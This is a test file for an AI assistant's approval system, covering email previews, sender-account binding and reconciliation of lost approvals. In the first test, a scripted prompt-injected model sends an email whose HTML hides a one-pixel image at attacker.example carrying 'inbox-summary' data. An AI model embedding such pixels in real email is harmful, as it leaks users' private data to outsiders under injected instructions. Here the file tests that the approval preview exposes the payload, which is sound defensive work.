import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { call, say } from '../../sandbox/gemini';
import { reconcileEffects } from '../../shared/orchestrator/reconcile-effects';
import type { Harness } from '../support/harness';
import { startWarmChatHarness } from '../support/chat-harness';

// What a person approves is what happens: the whole email (HTML and what it would load), from the
// account the preview named, and an approval whose answer was lost ends settled, not "unknown".

let h: Harness;
const ANA = 'ana@example.com';
const WORK = 'ana@work.example.com';
beforeAll(async () => {
  h = await startWarmChatHarness();
});
afterAll(async () => h?.close());
beforeEach(async () => {
  await h.wipe();
  h.gemini.reset();
  h.google.clearFaults();
  h.x.clearFaults();
});

const subject = () => `Trust ${Math.random().toString(36).slice(2, 8)}`;
const sentFrom = (email: string, s: string) => h.google.sentMessages(email).filter((m) => m.subject === s);

describe('the email preview shows what will be sent (finding 4)', () => {
  it('an injected model sending innocent text with HTML loading a remote image: the pending approval shows the HTML and names the address', async () => {
    await h.connectGoogle('dev-user', ANA);
    const html = '<p>See you tomorrow!</p><img src="https://attacker.example/p.gif?d=inbox-summary" width="1" height="1">';
    h.gemini.script(call('send_email', { to: ['bo@example.com'], subject: 'Tomorrow', text: 'See you tomorrow!', html }), say('done'));
    const res = await h.call('chat', { message: 'Summarise my inbox' });
    expect(res.status).toBe(202);
    const { approval } = res.json.data;
    const expected = {
      kind: 'email',
      details: { body: 'See you tomorrow!', has_html_version: true, html, html_remote_content: ['https://attacker.example/p.gif?d=inbox-summary'] },
    };
    expect(approval.preview).toMatchObject(expected);
    // The approval as the person's app lists it and shows it carries the same.
    const listed = await h.call('approvals', undefined, { method: 'GET' });
    expect(listed.json.data.approvals[0].preview).toMatchObject(expected);
    const shown = await h.call(`approvals/${approval.id}`, undefined, { method: 'GET' });
    expect(shown.json.data.approval.preview).toMatchObject(expected);
  });
});

describe('the approval runs as the previewed account (finding 13)', () => {
  it('a default account changed between approval and execution still sends from the previewed one', { timeout: 60_000 }, async () => {
    await h.connectGoogle('dev-user', ANA, { isDefault: true });
    await h.connectGoogle('dev-user', WORK, { alias: 'work' });
    const s = subject();
    h.gemini.script(call('send_email', { to: ['bo@example.com'], subject: s, text: 'hello' }), say('sent'));
    const res = await h.call('chat', { message: 'email bo' });
    expect(res.status).toBe(202);
    const { approval } = res.json.data;
    expect(approval.preview.details.from).toBe(ANA);
    // The resolved account is part of what was approved (and of its hash).
    expect(approval.args.account).toBe(ANA);

    const patched = await h.call('connections', { provider: 'google', account: WORK, default: true }, { method: 'PATCH' });
    expect(patched.status).toBe(200);
    const approved = await h.call(`approvals/${approval.id}`, { decision: 'approve' });
    expect(approved.status).toBe(200);
    expect(approved.json.data.result.output.account).toBe(ANA);
    expect(sentFrom(ANA, s)).toHaveLength(1);
    expect(sentFrom(WORK, s)).toHaveLength(0);
  });
});

describe('an approval whose answer was lost ends settled', () => {
  it('the post went out but the answer and the first lookup failed: the reconciler finds it and the approval shows it executed', async () => {
    await h.connectX('dev-user');
    const text = `Settled ${Math.random().toString(36).slice(2, 8)}`;
    h.gemini.script(call('post_tweet', { text }), say('ok'));
    const res = await h.call('chat', { message: 'post it' });
    const id = res.json.data.approval.id;
    h.x.inject({ match: { method: 'POST', path: '/2/tweets' }, status: 200, dropAfterHandling: true });
    h.x.inject({ match: { method: 'GET', path: /^\/2\/users\/\d+\/tweets$/ }, status: 503 });
    const approved = await h.call(`approvals/${id}`, { decision: 'approve' });
    expect(approved.json.data.result.error.code).toBe('upstream_unavailable');
    expect((await h.call(`approvals/${id}`, undefined, { method: 'GET' })).json.data.approval.status).toBe('failed');

    const report = await reconcileEffects({ runtime: h.runtime, requestId: 'r', signal: new AbortController().signal, graceMs: 0 });
    expect(report).toMatchObject({ applied: 1, stillUnknown: 0 });
    const shown = (await h.call(`approvals/${id}`, undefined, { method: 'GET' })).json.data;
    expect(shown.approval.status).toBe('executed');
    const posts = h.x.tweets().filter((t) => t.text === text);
    expect(posts).toHaveLength(1);
    expect(shown.result.output).toMatchObject({ id: posts[0]?.id, text });
  });
});
